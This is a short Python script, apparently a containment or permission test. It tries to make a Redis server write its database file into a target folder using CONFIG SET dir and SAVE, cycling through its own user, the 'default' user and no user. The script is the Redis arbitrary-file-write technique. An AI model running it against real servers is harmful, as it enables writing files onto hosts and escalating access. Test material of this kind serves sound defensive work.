"""Has Redis write a file outside: CONFIG SET dir, SAVE, with its own user and as `default`."""

import os
import urllib.parse

import redis
from kit import TARGETS


def attack() -> None:
    own = urllib.parse.urlsplit(os.environ["REDIS_URL"])
    last = None
    for user in (own.username, "default", None):
        try:
            client = redis.Redis(port=own.port, username=user, password=own.password)
            client.config_set("dir", TARGETS["folder"])
            client.config_set("dbfilename", "dumped.rdb")
            client.save()
            return
        except redis.RedisError as error:
            last = error
    raise PermissionError(str(last))
